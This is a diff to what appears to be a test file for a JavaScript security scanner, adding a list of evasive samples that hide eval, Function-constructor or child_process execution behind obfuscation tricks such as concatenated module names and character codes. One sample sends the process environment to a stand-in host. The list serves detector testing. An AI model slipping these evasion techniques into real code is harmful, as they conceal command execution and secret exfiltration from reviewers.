@@ -299,6 +299,83 @@ export const EVASIVE: readonly Sample[] = [
     file: 'a.js',
     text: 'Object.getPrototypeOf(async function () {}).constructor(code)();',
   },
+  {
+    name: 'method name computed in a destructuring',
+    file: 'a.cjs',
+    text: "const { ['ex' + 'ec']: z } = require('child_process');\nz('id');",
+  },
+  {
+    name: 'every member tried',
+    file: 'a.cjs',
+    text: "const cp = require('child_process');\nfor (const k in cp) if (k.length === 4) cp[k]('id');",
+  },
+  {
+    name: "loader of the main module's constructor",
+    file: 'a.cjs',
+    text: "globalThis.process.mainModule.constructor._load('child_' + 'process').exec('id');",
+  },
+  { name: 'optional eval', file: 'a.js', text: "eval?.('x');" },
+  { name: 'Function through its own prototype', file: 'a.js', text: "Function.prototype.constructor('x')();" },
+  { name: 'Function through a class', file: 'a.js', text: "(class {}).constructor('x')();" },
+  { name: 'module name appended', file: 'a.cjs', text: "let s = 'child_';\ns += 'process';\nrequire(s).exec('id');" },
+  { name: 'members as a list', file: 'a.cjs', text: "Object.values(require('child_process'))[0]('id');" },
+  { name: "handed on as the module's exports", file: 'a.cjs', text: "module.exports = require('child_process');" },
+  {
+    name: 'handed on as the default export',
+    file: 'a.mjs',
+    text: "import cp from 'child_process';\nexport default cp;",
+  },
+  { name: 'environment as headers', file: 'a.js', text: "fetch('https://h.example', { headers: process['env'] });" },
+  {
+    name: 'deep in an object',
+    file: 'a.cjs',
+    text: "const o = { a: { b: require('child_' + 'process') } };\no.a.b.exec('id');",
+  },
+  {
+    name: 'one of two modules',
+    file: 'a.cjs',
+    text: "const m = x ? 'fs' : 'child_' + 'process';\nrequire(m).execSync('id');",
+  },
+  {
+    name: 'copied into an object',
+    file: 'a.cjs',
+    text: "const t = Object.assign({}, require('child_process'));\nt['ex' + 'ec']('id');",
+  },
+  { name: 'escape in an identifier', file: 'a.js', text: "\\u0065val('1');" },
+  { name: 'tagged template', file: 'a.cjs', text: "const cp = require('child_process');\ncp.exec`id`;" },
+  {
+    name: 'require assigned in a switch',
+    file: 'a.cjs',
+    text: "let r;\nswitch (1) { case 1: r = require; }\nr('child_' + 'process').exec('x');",
+  },
+  { name: 'generator Function', file: 'a.js', text: "(function* () {}).constructor('x')();" },
+  {
+    name: 'thread with a spelled truth',
+    file: 'a.cjs',
+    text: "const { Worker: W } = require('worker_threads');\nnew W(code, { eval: !0 });",
+  },
+  {
+    name: 'import in a helper',
+    file: 'a.mjs',
+    text: "const i = (s) => import(s);\ni('child_' + 'process').then((m) => m.fork('x'));",
+  },
+  {
+    name: 'data: address put together',
+    file: 'a.mjs',
+    text: "const u = 'data:text/javascript,' + encodeURIComponent(c);\nimport(u);",
+  },
+  {
+    name: 'method behind a getter',
+    file: 'a.cjs',
+    text: "const o = { get e() { return require('child_process').exec; } };\no.e('id');",
+  },
+  { name: 'call of call', file: 'a.js', text: "Function.prototype.call.call(eval, null, '1');" },
+  {
+    name: 'character codes in a list',
+    file: 'a.cjs',
+    text: "require([99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map((c) => String.fromCharCode(c)).join('')).exec('x');",
+  },
+  { name: 'eval in a list of pairs', file: 'a.js', text: "const { x } = Object.fromEntries([['x', eval]]);\nx('1');" },
 ];
 
 /** Code that is not JavaScript, install steps, and instructions. */
